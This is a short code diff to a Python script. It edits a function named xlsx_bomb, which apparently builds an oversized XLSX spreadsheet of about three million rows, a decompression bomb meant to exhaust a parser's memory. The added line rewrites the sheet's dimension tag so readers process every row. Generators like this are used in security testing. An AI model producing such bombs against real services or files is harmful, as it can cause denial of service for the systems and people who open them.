@@ -12,6 +12,7 @@ import argparse
 import io
 import json
 import os
+import re
 import socket
 import subprocess
 import sys
@@ -56,6 +57,7 @@ def xlsx_bomb(rows: int = 3_000_000) -> bytes:
                 target.writestr(item, source.read(item))
                 continue
             head, _, tail = source.read(item).decode().partition("</sheetData>")
+            head = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="A1:B{rows + 1}"', head)  # read to the end
             with target.open(item.filename, "w") as sheet:
                 sheet.write(head.encode())
                 chunk = b'<row><c t="inlineStr"><is><t>1</t></is></c></row>' * 10_000
